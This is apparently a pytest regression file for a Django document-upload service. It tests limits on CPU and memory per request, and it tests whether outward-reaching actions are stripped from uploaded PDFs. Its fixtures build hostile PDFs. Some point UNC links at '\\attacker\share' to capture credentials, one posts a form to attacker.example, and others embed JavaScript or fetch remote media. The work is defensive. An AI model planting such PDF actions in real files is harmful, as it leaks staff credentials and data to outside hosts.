"""Holes a probe of the upload defences found, as an attacker would (issue 13, items 4, 5 and 9).

Each test names the rule the hole broke; they failed when written and pass since each was closed
at its root: bounds per request as well as per file (files, pixels decoded whole, one object
budget for all the PDFs of an upload, every object counted), cleaned copies spooled to disk,
actions that reach outside the file removed, Cache-Control on every answer to a session.
"""

import io
import time
import tracemalloc

import pytest
import time_machine
from django.urls import reverse

from documents.models import PieceFile
from documents.uploads import COMBINE_MAX_PHOTOS, UploadRejected, inspect_upload, prepare_uploads
from tests.documents.files import _raw_pdf, _stream, huge_png, image_bytes, pdf_of_exactly, upload
from tests.factories import paris

pytestmark = pytest.mark.django_db

OPEN = paris(2023, 11, 1, 10)
CPU_TARGET_SECONDS = 2


def post(client, registration, files, **data):
    with time_machine.travel(OPEN, tick=False):
        return client.post(reverse("documents:upload", args=[registration.pk, "identity"]), {"files": files, **data},
                           HTTP_X_REQUESTED_WITH="XMLHttpRequest")


# Item 4: the bounds hold per file, not per request. Django lets a request carry 100 files
# (DATA_UPLOAD_MAX_NUMBER_FILES), and each one is judged in turn: 100 PNGs of 24 Mpx (68 KB each,
# a 6.6 MB request) cost one gunicorn worker 17.8 s of CPU; 20 PDFs of 10 MB with a script cost it
# 399 MB, because every cleaned copy is held in memory (a ContentFile) until the last file is
# judged, and each file's pypdf reader too: its objects point back to it, so only the cyclic
# garbage collector frees it, and large byte strings do not make that collector run.

def test_one_upload_judges_at_most_as_many_files_as_can_be_assembled(logged_in, registration):
    files = [upload(f"page-{n}.png", image_bytes("PNG", (20, 20))) for n in range(COMBINE_MAX_PHOTOS + 1)]
    response = post(logged_in, registration, files)
    assert response.status_code == 400
    assert PieceFile.objects.count() == 0


def test_assembling_the_most_photos_allowed_stays_within_the_cpu_target():
    # A PNG cannot be decoded at a reduced scale: each one at the 24 Mpx limit is decoded whole
    # when judged (0.18 s), then again when assembled: ten of them take 3.5 s. The pixels of one
    # request need a budget of their own, read from the headers before anything is decoded.
    photo = huge_png(4800, 5000)
    uploads = [upload(f"page-{n}.png", photo) for n in range(COMBINE_MAX_PHOTOS)]
    start = time.process_time()
    try:
        prepare_uploads(uploads, combine=True)
    except UploadRejected:
        pass  # refusing such a request up front is a fix too
    assert time.process_time() - start < CPU_TARGET_SECONDS


def _pdf_with_script(size):
    """A scan-like PDF of about `size` bytes that runs a script when opened."""
    from pypdf import PdfReader, PdfWriter
    from pypdf.generic import DictionaryObject, NameObject, TextStringObject

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf_of_exactly(size))))
    writer._root_object[NameObject("/OpenAction")] = DictionaryObject({
        NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("app.alert(1);")})
    output = io.BytesIO()
    writer.write(output)
    return output.getvalue()


def _peak_bytes_of_judging(count, content):
    uploads = [upload(f"scan-{n}.pdf", content) for n in range(count)]
    tracemalloc.start()
    try:
        prepare_uploads(uploads)
    except UploadRejected:
        pass  # refusing so many files is a fix too: then nothing is held at all
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    return peak


def test_judging_the_files_of_one_upload_holds_at_most_one_cleaned_copy_in_memory():
    content = _pdf_with_script(2 * 1024 * 1024)
    one, several = _peak_bytes_of_judging(1, content), _peak_bytes_of_judging(6, content)
    # Five more copies of 2 MB each would add 10 MB; a copy spooled to disk adds nothing.
    assert several - one < 3 * 1024 * 1024, f"1 file: {one / 2**20:.0f} MB, 6 files: {several / 2**20:.0f} MB"


# Found again once the first bounds were in (commit 7ab96c3): a PDF's work has no budget per
# request. Ten PDFs of 1.7 MB, each a chain of 29,000 objects with a script (1.9 s each, under the
# per-file target), took 21 s of CPU in one upload; and PDF_MAX_OBJECTS counts only dictionaries
# and arrays, so a PDF of 100,000 plain objects (in object streams, 1.6 MB) is walked whole.

def _chained_pdf_with_script(links):
    objects = [b"<< /Type /Catalog /Pages 2 0 R /PieceInfo 6 0 R /OpenAction 5 0 R >>", PAGE_TREE,
               b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>", b"<< >>", b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"]
    objects += [b"<< /Next %d 0 R >>" % (7 + n) for n in range(links - 1)] + [b"<< >>"]
    return _raw_pdf(objects)


def test_one_upload_of_the_most_pdfs_allowed_stays_within_the_cpu_target():
    content = _chained_pdf_with_script(6000)  # 0.4 s each: ten of them, 4 s
    uploads = [upload(f"scan-{n}.pdf", content) for n in range(COMBINE_MAX_PHOTOS)]
    start = time.process_time()
    try:
        prepare_uploads(uploads)
    except UploadRejected:
        pass  # refusing such a request is a fix too
    assert time.process_time() - start < CPU_TARGET_SECONDS


def _pdf_of_plain_objects(count):
    """One page, and an array of `count` references to integers held in object streams (a
    cross-reference stream lists them): every one is a PDF object, none a dictionary or an array."""
    import zlib

    body, offsets, in_stream, first = bytearray(b"%PDF-1.7\n"), {}, {}, 5

    def add(number, source):
        offsets[number] = len(body)
        body.extend(b"%d 0 obj\n" % number + source + b"\nendobj\n")

    add(1, b"<< /Type /Catalog /Pages 2 0 R /PieceInfo 4 0 R >>")
    add(2, PAGE_TREE)
    add(3, b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>")
    add(4, b"[" + b" ".join(b"%d 0 R" % (first + n) for n in range(count)) + b"]")
    number = first + count
    for start in range(0, count, 1000):
        members = range(first + start, first + min(start + 1000, count))
        header = b" ".join(b"%d %d" % (member, 2 * k) for k, member in enumerate(members))
        data = zlib.compress(header + b" " + b"1 " * len(members))
        add(number, b"<< /Type /ObjStm /N %d /First %d /Filter /FlateDecode /Length %d >>\nstream\n" % (
            len(members), len(header) + 1, len(data)) + data + b"\nendstream")
        in_stream.update({member: (number, k) for k, member in enumerate(members)})
        number += 1
    xref = len(body)
    rows = bytearray()
    for n in range(number + 1):
        if n in offsets or n == number:
            rows += b"\x01" + (offsets[n] if n in offsets else xref).to_bytes(4, "big") + b"\0\0"
        elif n in in_stream:
            rows += b"\x02" + in_stream[n][0].to_bytes(4, "big") + in_stream[n][1].to_bytes(2, "big")
        else:
            rows += b"\0" * 7
    data = zlib.compress(bytes(rows))
    body += b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R /Filter /FlateDecode /Length %d >>\nstream\n" % (
        number, number + 1, len(data)) + data + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref
    return bytes(body)


def test_a_pdf_of_more_objects_than_the_limit_is_refused_whatever_they_are():
    from documents.uploads import PDF_MAX_OBJECTS

    with pytest.raises(UploadRejected, match="trop complexe"):
        inspect_upload(upload("dossier.pdf", _pdf_of_plain_objects(PDF_MAX_OBJECTS + 10_000)))


# Item 5: actions that reach outside the document are kept as sent. Acrobat follows them when
# staff click a link or a button: /GoToR, /ImportData and a file attachment reach a UNC path
# (\\attacker\share: the staff member's Windows credentials are sent to it); /SubmitForm posts the
# form to any server; a javascript: URI; a 3D annotation carries its own script (/OnInstantiate);
# /Rendition and /Movie play media from outside the file.

PAGE_TREE = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
RECT = b"/Rect [50 50 200 100]"


def _pdf_with_annotation(annotation, *more):
    return _raw_pdf([b"<< /Type /Catalog /Pages 2 0 R >>", PAGE_TREE,
                     b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Annots [4 0 R] >>", annotation, *more])


def _link(action):
    return _pdf_with_annotation(b"<< /Type /Annot /Subtype /Link " + RECT + b" /A " + action + b" >>")


OUTWARD = {
    "gotor": (_link(b"<< /S /GoToR /F (\\\\\\\\attacker\\\\share\\\\x.pdf) /D [0 /Fit] >>"), b"/GoToR"),
    "importdata": (_link(b"<< /S /ImportData /F (\\\\\\\\attacker\\\\share\\\\x.fdf) >>"), b"/ImportData"),
    "submitform": (_link(b"<< /S /SubmitForm /F << /FS /URL /F (https://attacker.example/collect) >> >>"), b"/SubmitForm"),
    "javascript-uri": (_link(b"<< /S /URI /URI (javascript:app.alert\\(1\\)) >>"), b"javascript:"),
    "file-attachment": (_pdf_with_annotation(b"<< /Type /Annot /Subtype /FileAttachment " + RECT
                                             + b" /FS << /Type /Filespec /F (\\\\\\\\attacker\\\\share\\\\x.exe) >> >>"), b"attacker"),
    "3d-script": (_pdf_with_annotation(b"<< /Type /Annot /Subtype /3D " + RECT + b" /3DD 5 0 R /3DA << /A /PO >> >>",
                                       _stream(b"U3D", b"/Type /3D /Subtype /U3D /OnInstantiate 6 0 R"), _stream(b"app.alert(1)")),
                  b"/OnInstantiate"),
    "rendition": (_pdf_with_annotation(b"<< /Type /Annot /Subtype /Screen " + RECT + b" /A << /S /Rendition /OP 0 /R << /S /MR "
                                       b"/C << /S /MCD /D << /Type /Filespec /FS /URL /F (https://attacker.example/m.mp4) >> >> >> >> >>"),
                  b"/Rendition"),
    "thread-remote": (_link(b"<< /S /Thread /F (\\\\\\\\attacker\\\\share\\\\x.pdf) /D 0 >>"), b"attacker"),
    "movie": (_pdf_with_annotation(b"<< /Type /Annot /Subtype /Movie " + RECT + b" /Movie << /F (\\\\\\\\attacker\\\\share\\\\m.mov) >> >>"),
              b"attacker"),
}


@pytest.mark.parametrize("kind", OUTWARD)
def test_an_action_that_reaches_outside_the_document_is_not_kept(kind):
    sent, trace = OUTWARD[kind]
    assert trace in sent
    try:
        inspection = inspect_upload(upload("formulaire.pdf", sent))
    except UploadRejected:
        return  # refused: nothing reaches staff either
    stored = inspection.cleaned.read() if inspection.cleaned else sent
    assert trace not in stored


# Item 9: `Cache-Control: private, no-store` on every answer to a candidate. CommonMiddleware
# answers a URL without its final slash with a permanent redirect before AuthenticationMiddleware
# runs, so PrivateNoStoreMiddleware (below it) never sees that answer: a 301, which browsers and
# proxies keep without a Cache-Control.

def test_the_redirect_to_a_candidates_page_with_its_final_slash_is_not_stored(logged_in, registration):
    response = logged_in.get(reverse("documents:pieces", args=[registration.pk]).rstrip("/"))
    assert response.status_code == 301
    assert "no-store" in response.get("Cache-Control", "")
